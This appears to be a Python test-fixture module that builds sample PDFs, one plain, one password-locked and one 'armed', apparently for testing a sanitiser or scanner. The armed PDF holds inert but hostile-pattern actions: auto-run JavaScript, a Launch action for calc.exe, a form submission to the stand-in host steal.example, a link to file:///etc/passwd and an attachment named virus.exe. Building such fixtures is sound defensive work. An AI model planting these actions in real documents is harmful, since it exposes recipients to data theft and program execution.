"""Real PDF files, sound and unsound, made on the spot."""

from __future__ import annotations

from io import BytesIO

import pikepdf
from reportlab.pdfgen import canvas

AUTHOR = "Nadia Secrète"


def pdf(pages: int = 1, text: str = "Parcours") -> bytes:
    """A small sound PDF with an author in its properties and a link on each page."""
    out = BytesIO()
    drawn = canvas.Canvas(out, invariant=True)
    drawn.setAuthor(AUTHOR)
    for number in range(pages):
        drawn.drawString(72, 720, f"{text} {number + 1}")
        drawn.linkURL("https://doi.org/10.5281/zenodo.1", (72, 700, 200, 716))
        drawn.showPage()
    drawn.save()
    return out.getvalue()


def saved(file: pikepdf.Pdf, **settings: object) -> bytes:
    """A pikepdf file as bytes, nothing compressed so that its words can be looked for."""
    out = BytesIO()
    file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False, **settings)  # type: ignore[arg-type]
    return out.getvalue()


def locked(user: str = "secret") -> bytes:
    """A PDF that asks for a password; with an empty `user`, one whose printing alone is restricted."""
    return saved(pikepdf.open(BytesIO(pdf())), encryption=pikepdf.Encryption(user=user, owner="owner"))


def armed() -> bytes:
    """A PDF with scripts, a program to launch, a form to send away, an enclosed file and XMP properties."""
    file = pikepdf.open(BytesIO(pdf(2)))
    name, table = pikepdf.Name, pikepdf.Dictionary
    script = table(S=name.JavaScript, JS="app.alert")
    launch = table(S=name.Launch, F="calc.exe", Next=table(S=name.JavaScript, JS="chained"))
    file.Root.OpenAction = script
    file.Root.AcroForm = table(XFA=pikepdf.String("<xfa>form</xfa>"), Fields=pikepdf.Array())
    file.attachments["virus.exe"] = b"enclosed-content"
    named = file.make_indirect(table(S=name.JavaScript, JS="namedscript"))
    file.Root.Names.JavaScript = table(Names=[pikepdf.String("x"), named])
    page = file.pages[0].obj
    page.AA = table(O=launch)
    page.Annots = pikepdf.Array(
        [
            table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch),
            table(
                Type=name.Annot,
                Subtype=name.Link,
                Rect=[0, 0, 9, 9],
                A=table(S=name.SubmitForm, F="https://steal.example"),
            ),
            table(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=table(S=name.URI, URI="file:///etc/passwd")),
            table(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9], Contents="pinned-file"),
        ]
    )
    with file.open_metadata() as properties:
        properties["dc:creator"] = [AUTHOR]
    return saved(file)


def readable(content: bytes) -> bytes:
    """The same document with nothing compressed."""
    return saved(pikepdf.open(BytesIO(content)), stream_decode_level=pikepdf.StreamDecodeLevel.all)
